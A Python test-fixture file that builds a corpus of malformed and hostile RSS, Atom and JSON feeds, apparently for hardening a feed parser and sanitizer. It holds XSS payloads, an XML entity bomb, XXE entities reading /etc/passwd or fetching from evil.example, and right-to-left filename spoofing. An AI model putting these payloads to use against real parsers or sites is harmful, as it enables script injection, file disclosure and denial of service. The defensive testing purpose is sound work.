"""Feeds as they are found: each small and nasty in its own way."""

# ruff: noqa: E501 - a feed stands as it was found

NS = (
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    ' xmlns:media="http://search.yahoo.com/mrss/" xmlns:atom="http://www.w3.org/2005/Atom"'
)


def rss(items, head="<title>Wild</title><link>http://wild.example/</link>", attributes=""):
    return f'<rss version="2.0" {NS} {attributes}><channel>{head}{items}</channel></rss>'


def item(inner):
    return rss(f"<item>{inner}</item>")


def atom(entry, attributes=""):
    return (
        f'<feed xmlns="http://www.w3.org/2005/Atom" {attributes}><title>Wild</title>'
        f"<id>urn:wild</id><updated>2026-01-02T03:04:05Z</updated>{entry}</feed>"
    )


def described(html):
    return item(f"<title>T</title><description><![CDATA[{html}]]></description>")


def dated(date):
    return item(f"<title>Dated</title><guid>{date}</guid><pubDate>{date}</pubDate>")


def bomb(levels=9):
    lines = ['<!ENTITY a0 "boom">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels)]
    body = item(f"<title>&a{levels - 1};</title>")
    return f"<?xml version='1.0'?><!DOCTYPE rss [{''.join(lines)}]>{body}"


XSS = """<script>alert(1)</script><p onclick="alert(1)">Hi</p><a href="javascript:alert(1)">j</a>
<a href="&#106;avascript:alert(1)">k</a><a href=" java&#10;script:alert(1)">l</a><a href="data:text/html,x">d</a>
<img src="http://spy.example/p.gif" width="1" height="1"><img src="http://pic.example/cat.jpg" alt="A cat">
<img src=x onerror=alert(1)><svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>s</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="http://frame.example/"></iframe><object data="x"></object><embed src="x"><form action="/x"><input></form>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="stylesheet" href="x">
<style>*{background:url(http://spy.example/)}</style><p style="background:url(http://spy.example/)">styled</p>
<video src="http://spy.example/v" poster="http://spy.example/p"></video><audio src="http://spy.example/a"></audio>
<p background="http://spy.example/b" class="post" id="main">p</p><template><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><textarea><img src=x onerror=alert(1)></textarea>
<a href="vbscript:x">v</a><a href="//evil.example/x" target="_top">rel</a><picture><source srcset="http://spy.example/s"></picture>
<!--[if IE]><script>x</script><![endif]--><?php x ?><marquee>m</marquee><blink>b</blink>"""

CORPUS = {
    "rss 0.91": b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
    b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>Old</title>'
    b"<item><title>First &amp; last</title><link>http://old.example/1</link></item></channel></rss>",
    "rss 1.0": b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
    b' xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="http://r.example/"><title>R</title>'
    b'</channel><item rdf:about="http://r.example/1"><title>One</title><link>http://r.example/1</link>'
    b"<dc:date>2026-02-03T04:05:06+02:00</dc:date></item></rdf:RDF>",
    "rss 2.0": item("<title>Plain</title><link>http://wild.example/1</link><guid>1</guid>"),
    "atom": atom(
        "<entry><id>1</id><title>A</title><updated>2026-01-02T03:04:05Z</updated></entry>"
    ),
    "atom 0.3": b'<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Z</title><entry><title>T</title>'
    b"<issued>2005-01-02T03:04:05Z</issued><id>x</id></entry></feed>",
    "atom xhtml": atom(
        '<entry><id>1</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><b>Bold</b> &amp; free'
        "</div></title></entry>"
    ),
    "atom html title": atom(
        "<entry><id>1</id><title type='html'>&lt;i&gt;A&lt;/i&gt; &amp;amp; B</title></entry>"
    ),
    "atom text title": atom("<entry><id>1</id><title type='text'>1 &lt; 2 &amp; 3</title></entry>"),
    "cdf": b'<CHANNEL HREF="http://c.example/"><TITLE>C</TITLE><ITEM HREF="http://c.example/1"><TITLE>I</TITLE>'
    b"</ITEM></CHANNEL>",
    "utf-16": '<?xml version="1.0" encoding="utf-16"?>' + item("<title>Größe 水</title>"),
    "windows-1252 said utf-8": b'<?xml version="1.0" encoding="utf-8"?>'
    + item("<title>\u201cna\u00efve\u201d</title>").encode("cp1252"),
    "latin-1": b'<?xml version="1.0" encoding="iso-8859-1"?>'
    + item("<title>\xe9t\xe9</title>").encode("latin-1"),
    "koi8-r": b'<?xml version="1.0" encoding="koi8-r"?>'
    + item("<title>Мир</title>").encode("koi8-r"),
    "gb18030": b'<?xml version="1.0" encoding="gb18030"?>'
    + item("<title>中文</title>").encode("gb18030"),
    "unknown encoding": b'<?xml version="1.0" encoding="klingon"?>'
    + item("<title>qapla</title>").encode(),
    "bom and blank lines": b"\xef\xbb\xbf\r\n\r\n" + item("<title>Late</title>").encode(),
    "broken utf-8": item("<title>a@b</title>").encode().replace(b"@", b"\xff\xfe\xc3"),
    "nul and controls": item("<title>a@b</title>").encode().replace(b"@", b"\x00\x01\x1b\x7f"),
    "no date": item("<title>Undated</title><guid>u</guid>"),
    "no title": item("<guid>n</guid><description>Only words.</description>"),
    "nothing in it": item(""),
    "no items": rss(""),
    "rfc 822 short year": dated("Thu, 01 Jan 26 19:48:21 GMT"),
    "rfc 822 no day": dated("1 Jan 2026 19:48:21 EST"),
    "rfc 822 zones": dated("Wed, 02 Oct 2024 15:00:00 PDT"),
    "rfc 822 odd offset": dated("Wed, 2 Oct 2024 15:00:00 +0530"),
    "rfc 822 wrong weekday": dated("Monday, 02 Oct 2024 15:00:00 Z"),
    "iso in rss": dated("2024-10-02T15:00:00.123456+02:00"),
    "date alone": dated("2024-10-02"),
    "asctime": dated("Wed Oct  2 15:00:00 2024"),
    "impossible date": dated("Wed, 31 Feb 2024 25:61:61 GMT"),
    "date of words": dated("last Tuesday, after lunch"),
    "date far away": dated("Fri, 31 Dec 9999 23:59:59 GMT"),
    "date before dates": dated("Thu, 01 Jan 0001 00:00:00 GMT"),
    "leap second": dated("2016-12-31T23:59:60Z"),
    "double escaping": item("<title>Tom &amp;amp;amp; Jerry &amp;lt;3</title>"),
    "marks in title": item(
        "<title>&lt;b&gt;Bold&lt;/b&gt; and &lt;script&gt;x&lt;/script&gt;</title>"
    ),
    "cdata in title": item("<title><![CDATA[A & B <i>c</i> ]]></title>"),
    "entities of html": item("<title>caf&eacute; &nbsp;&hellip; &#8364; &bogus;</title>"),
    "xml base": rss(
        "<item xml:base='deep/'><title>B</title><link>x.html</link><description>&lt;a href='y'&gt;y&lt;/a&gt;"
        "</description></item>",
        attributes="xml:base='http://base.example/a/'",
    ),
    "namespaces": item(
        "<title>N</title><media:title>not me</media:title><content:encoded><![CDATA[<p>Long</p>]]>"
        "</content:encoded><description>short</description><dc:subject>sub</dc:subject>"
    ),
    "undeclared namespace": '<rss version="2.0"><channel><title>W</title><item><title>T</title>'
    "<foo:bar>x</foo:bar></item></channel></rss>",
    "cut off": item("<title>Cut</title><description>begins and").rsplit("</item>")[0],
    "crossed marks": "<rss version='2.0'><channel><title>W<item><b><title>X</b></title></channel></item>",
    "ampersands": item("<title>R&D & co</title><link>http://wild.example/?a=1&b=2</link>"),
    "nasty html": described(XSS),
    "nasty html escaped": item(
        "<title>T</title><description>"
        + XSS.replace("&", "&amp;").replace("<", "&lt;")
        + "</description>"
    ),
    "nasty links": "".join(
        [
            "<rss version='2.0'><channel><title>L</title><link>javascript:alert(1)</link>",
            *(
                f"<item><title>{n}</title><link>{link}</link><guid>{n}</guid></item>"
                for n, link in enumerate(
                    [
                        "javascript:alert(1)",
                        "data:text/html,x",
                        " JAVASCRIPT:x",
                        "file:///etc/passwd",
                    ]
                    + [
                        "http://a@b.example/",
                        "http://[::1",
                        "//host.example/x",
                        "../up",
                        "http://x\\y/",
                    ]
                )
            ),
            "</channel></rss>",
        ]
    ),
    "nasty files": item(
        "<title>F</title><enclosure url='javascript:x' type='audio/mpeg'/>"
        "<enclosure url='http://f.example/a.mp3&quot;&gt;&lt;script&gt;x&lt;/script&gt;' type='audio/mpeg'/>"
    ),
    "direction": item(
        "<title>safe\u202egnp.exe\u2066 \u200bx</title><description>\u202eevil\u2069</description>"
    ),
    "numbers of what hides": described(
        '<p title="Read me">&amp;#x202e;live&amp;#2066;&#38;#8294;x&amp;#xfeff;</p>'
        '<a href="java&amp;#2;script:alert(1)">a</a>'
    ),
    "named letters": "<?xml version='1.0'?><!DOCTYPE rdf:RDF [\n<!ENTITY % HTMLlat1 PUBLIC\n"
    ' "-//W3C//ENTITIES Latin 1 for XHTML//EN"\n'
    ' "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent">\n%HTMLlat1;\n]>'
    + item("<title>Caf&eacute;</title>"),
    "endless word": item(f"<title>{'a' * 10_000}</title><description>{'ü' * 10_000}</description>"),
    "long words": described("<p>" + "word " * 50_000 + "</p>"),
    "many marks": described("<b>x" * 8_000),
    "many items": rss(
        "".join(f"<item><guid>{n}</guid><title>{n}</title></item>" for n in range(300))
    ),
    "same guids": rss("".join(f"<item><guid>x</guid><title>{n}</title></item>" for n in range(3))),
    "bomb": bomb(),
    "bomb in utf-16": ("\ufeff" + bomb()).encode("utf-16-le"),
    "long entity": f"<!DOCTYPE r [<!ENTITY a '{'x' * 100_000}'>]>"
    + item("<title>" + "&a;" * 500 + "</title>"),
    "outside entity": "<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
    + item("<title>&a;</title>"),
    "outside parameter": "<!DOCTYPE r [<!ENTITY % a SYSTEM 'http://evil.example/x'> %a;]>"
    + item("<title>T</title>"),
    "deep": item("<title>" + "<x>" * 50_000 + "</title>"),
    "html page": "<!doctype html><html><head><title>Page</title></head><body><p>Not a feed.</body></html>",
    "empty": b"",
    "blank": b" \n\t ",
    "one mark": b"<",
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
    "json": b'{"error": "not found"}',
    "json list": b"[1, 2]",
    "json cut": b'{"version": "https://jsonfeed.org/version/1", "items": [',
    "json deep": b'{"version": "https://jsonfeed.org/version/1", "items": ' + b"[" * 100_000,
    "json feed 1.0": b'{"version": "https://jsonfeed.org/version/1", "title": "J &amp; J", "items": [{"id": "1", '
    b'"url": "http://j.example/1", "title": "1 < 2", "content_html": "<p>Hi<script>x</script></p>", '
    b'"date_published": "2026-01-02T03:04:05+01:00", "tags": ["a", 3, null, "a"]}]}',
    "json feed odd types": b'{"version": "https://jsonfeed.org/version/1.1", "title": 7, "home_page_url": [], '
    b'"language": {}, "items": [1, null, "x", [], {}, {"id": 5, "title": {"a": 1}, "content_text": true, '
    b'"date_published": 1700000000, "tags": "science", "url": "javascript:x"}, {"id": null, "content_text": 12.5,'
    b'"date_published": "2026-13-45T99:99:99Z"}, {"id": true, "summary": "S", "date_modified": "2026-01-02"}]}',
    "json feed in utf-16": '{"version": "https://jsonfeed.org/version/1", "items": [{"content_text": "水"}]}'.encode(
        "utf-16"
    ),
    "json feed leads nowhere": b'{"version": "https://jsonfeed.org/version/1", "items": [{"url": "http://j.example/a/1",'
    b'"content_html": "<a href=\\"/me/\\">a</a><a href=\\"b\\">b</a><a href=\\"http://x@y.example\\">c</a>'
    b'<a href=\\"//k.example/\\">d</a><a href=\\"#f\\">e</a><p>\\u202e&#x202e;</p>"}]}',
    "json surrogates": b'{"version": "https://jsonfeed.org/version/1", "items": [{"title": "\\ud83d x"}]}',
}
BYTES = {
    name: feed
    if isinstance(feed, bytes)
    else feed.encode("utf-16" if name == "utf-16" else "utf-8")
    for name, feed in CORPUS.items()
}
